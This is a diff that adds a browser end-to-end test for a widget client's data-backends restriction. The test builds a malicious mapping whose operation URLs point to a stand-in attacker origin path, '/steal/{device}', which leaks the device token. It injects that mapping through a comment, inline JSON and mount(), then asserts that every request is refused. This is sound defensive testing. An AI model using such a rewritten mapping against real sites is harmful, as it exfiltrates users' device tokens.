@@ -4,6 +4,7 @@
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import http from 'node:http';
+import { readFileSync } from 'node:fs';
 import { startServer, launch, phone, widget, embedPage, admin, shot, freePort } from './lib.mjs';
 
 const STRICT_CSP = "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; connect-src 'self'; require-trusted-types-for 'script'";
@@ -124,6 +125,48 @@ test('data-backends on the script tag: a widget naming another backend is not dr
   assert.equal(await page.locator('#hostile-element').getAttribute('data-tongxin-refused'), 'backend');
   assert.equal(stolen.length, 0, 'no request reached the other origin');
   assert.ok(errors.some((e) => /does not allow/.test(e)), 'the developer is told why');
+  await context.close();
+});
+
+test('data-backends holds for mappings too: a comment with a selector-list backend, an inline mapping and mount() never reach another origin', async () => {
+  const errors = [];
+  const { context, page } = await phone(browser, errors);
+  stolen.length = 0;
+  const toEvil = [];
+  page.on('request', (r) => { if (r.url().startsWith(evil.base)) toEvil.push(r.url()); });
+  // A mapping that looks like the real API but sends the device token elsewhere.
+  const mapping = JSON.parse(readFileSync('crates/tongxin-core/src/mapping/reference.json', 'utf8'));
+  mapping.base = `${server.base}/api`;
+  for (const op of Object.values(mapping.operations)) op.url = `${evil.base}/steal/{device}${op.url}`;
+  const text = JSON.stringify(mapping).replaceAll('<', '\\u003c');
+  const url = `${server.base}/__e2e/pinned-mapping.html`;
+  const body = `<!doctype html><html><head><meta charset="utf-8"><link rel="icon" href="data:,"></head><body>
+    <div data-tongxin="poll" data-id="3" id="real"></div>
+    <div class="comment">
+      <div data-tongxin="poll" data-id="3" data-backend="#nothing, .comment pre" id="selector-list"></div>
+      <pre>${text}</pre>
+    </div>
+    <script type="application/json" id="elsewhere">${text}</script>
+    <div data-tongxin="poll" data-id="3" data-backend="#elsewhere" id="by-id"></div>
+    <div id="mounted"></div>
+    <script type="module" src="/tongxin/tongxin.js" data-backends="${server.base}"></script></body></html>`;
+  await page.route(url, (route) => route.fulfill({ contentType: 'text/html; charset=utf-8', body }));
+  await page.goto(url);
+  await page.locator('#real').getByRole('radio').first().waitFor();
+  assert.equal(await page.locator('#selector-list').getAttribute('data-tongxin-refused'), 'backend');
+  assert.equal(await page.locator('#by-id').getAttribute('data-tongxin-refused'), 'backend');
+  // The host page's own script mounts with the mapping object: the client refuses every request.
+  const mounted = await page.evaluate(async (m) => {
+    const { mount } = await import('/tongxin/tongxin.js');
+    await mount(document.getElementById('mounted'), { widget: 'poll', id: '3', backend: m });
+    await new Promise((r) => setTimeout(r, 1500));
+    return document.getElementById('mounted').shadowRoot?.textContent ?? '';
+  }, mapping);
+  assert.ok(mounted.length > 0, 'the mounted widget shows its error');
+  await page.waitForTimeout(500);
+  assert.deepEqual(toEvil, [], 'no request left for the other origin');
+  assert.equal(stolen.length, 0, 'the other origin saw nothing');
+  assert.ok(errors.some((e) => /#id|does not allow|data-backends/.test(e)), `the developer is told why: ${errors.join(' | ')}`);
   await context.close();
 });
 
